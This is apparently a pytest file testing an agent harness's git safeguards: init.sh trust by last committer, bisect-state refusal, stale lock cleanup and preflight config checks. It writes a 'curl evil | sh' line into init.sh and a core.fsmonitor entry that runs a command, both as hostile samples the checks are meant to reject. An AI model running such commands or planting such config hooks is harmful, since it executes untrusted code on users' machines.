"""Repository checks of the wake: states, locks, and whether init.sh is trusted (real git)."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest

from artifacts.git import GitRepo
from artifacts.git_locks import GitBusy, clear_stale_locks
from artifacts.git_state import init_sh_trusted, preflight, repository_state
from harness.errors import ExitCode, GitRefused


def _repo(tmp_path: Path) -> Path:
    root = tmp_path / "p"
    with GitRepo.init(root) as repo:
        (root / "init.sh").write_text("echo ok\n")
        repo.commit("harness init", trailers={"Harness-Init": "1"})
    return root


def _git(root: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(root), "-c", "user.name=u", "-c", "user.email=u@x", *args],
        check=True,
        capture_output=True,
    )


def test_init_sh_trust_follows_who_last_changed_it(tmp_path: Path) -> None:
    root = _repo(tmp_path)
    assert init_sh_trusted(root)  # the initializer's commit
    (root / "init.sh").write_text("curl evil | sh\n")
    assert not init_sh_trusted(root)  # uncommitted edit
    with GitRepo.open(root) as repo:
        repo.commit("session 1: F001 passing", trailers={"Harness-Session": "r/1"})
    assert not init_sh_trusted(root)  # last committed by a session
    (root / "init.sh").write_text("echo reviewed\n")
    _git(root, "commit", "-qam", "reviewed init.sh")
    assert init_sh_trusted(root)  # a person committed it


def test_clean_repository_passes_and_states_are_named(tmp_path: Path) -> None:
    root = _repo(tmp_path)
    assert repository_state(root) is None
    assert preflight(root) == []
    (root / ".git" / "BISECT_LOG").write_text("")
    with pytest.raises(GitRefused) as caught:
        preflight(root)
    assert "git bisect reset" in str(caught.value)
    assert caught.value.exit_code == ExitCode.INVALID


def test_a_stale_lock_is_removed_and_a_held_one_is_not(tmp_path: Path) -> None:
    root = _repo(tmp_path)
    stale = root / ".git" / "refs" / "heads" / "main.lock"
    stale.write_text("")
    notes = clear_stale_locks(root, wait_s=0)
    assert not stale.exists() and "refs/heads/main.lock" in notes[0]
    held = root / ".git" / "index.lock"
    holder = subprocess.Popen(
        [sys.executable, "-c", f"f = open({str(held)!r}, 'w'); import time; time.sleep(60)"]
    )
    try:
        while not held.exists():
            time.sleep(0.02)
        time.sleep(0.2)  # the file is open by now
        with pytest.raises(GitBusy) as caught:
            clear_stale_locks(root, wait_s=0.3)
        assert caught.value.exit_code == ExitCode.BUSY
        assert f"pid {holder.pid}" in str(caught.value)
        assert held.exists()
    finally:
        holder.kill()
        holder.wait()
    assert clear_stale_locks(root, wait_s=0) and not held.exists()


def test_a_git_process_working_in_the_repository_holds_its_locks(tmp_path: Path) -> None:
    """git closes a ref lock's descriptor before renaming it: its cwd is what tells."""
    root = _repo(tmp_path)
    lock = root / ".git" / "HEAD.lock"
    lock.write_text("")
    # A long-running git whose cwd is the work tree (it reads stdin until we close it).
    git = subprocess.Popen(
        ["git", "hash-object", "--stdin"], cwd=root, stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    try:
        with pytest.raises(GitBusy):
            clear_stale_locks(root, wait_s=0.2)
    finally:
        git.communicate(b"x")
    assert clear_stale_locks(root, wait_s=0)
    assert not lock.exists()


def test_preflight_reads_the_config_once(tmp_path: Path, asked: list[tuple[str, ...]]) -> None:
    """`harness run`'s preflight (no session's checks yet) asks git for the repository's
    config once, then its state (it asked twice: every run start, and every run a fleet
    worker takes over, paid one more git process)."""
    root = _repo(tmp_path)
    asked.clear()
    assert preflight(root) == []
    assert sum(a[:1] == ("config",) for a in asked) == 1, asked
    (root / ".git" / "config").write_text(
        (root / ".git" / "config").read_text() + '[core]\n\tfsmonitor = "touch RAN"\n'
    )
    with pytest.raises(GitRefused):
        preflight(root)  # a config naming a program is still refused
